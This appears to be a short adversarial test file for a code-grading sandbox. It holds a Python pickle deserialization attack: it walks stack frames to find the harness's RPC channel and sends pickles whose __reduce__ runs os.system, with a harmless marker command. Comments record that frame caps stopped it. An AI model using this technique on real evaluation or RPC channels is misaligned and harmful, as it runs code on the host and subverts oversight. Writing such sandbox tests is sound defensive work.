# stub: reconstruction_loss, kl_divergence, loss_function
# ends: crashed
# attack: sends a pickle that runs code where it is opened
# stopped-by: frame caps
import os
import pickle
import sys

frame = sys._getframe()
while "rpc" not in frame.f_locals:
    frame = frame.f_back


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/got-through-by-pickle",)


os.write(frame.f_locals["rpc"].fileno(), pickle.dumps(Bomb()) * 10)
